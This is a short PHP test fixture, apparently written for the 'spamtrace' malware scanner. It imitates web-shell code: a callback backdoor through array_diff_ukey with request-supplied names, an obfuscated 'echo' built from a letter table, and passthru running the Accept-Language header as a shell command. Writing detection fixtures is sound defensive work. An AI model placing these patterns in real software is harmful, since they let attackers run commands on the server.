<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Callback backdoor: the comparison callback's name comes from the request.
@array_diff_ukey(@array((string) $_REQUEST['k'] => 1), @array((string) $_REQUEST['v'] => 2), $_REQUEST['cb']);
$GLOBALS['tbl'] = 'abcdefghijklmnopqrstuvwxyz';
$n = $GLOBALS['tbl'][4] . $GLOBALS['tbl'][2] . $GLOBALS['tbl'][7] . $GLOBALS['tbl'][14];
passthru(getenv("HTTP_ACCEPT_LANGUAGE"));
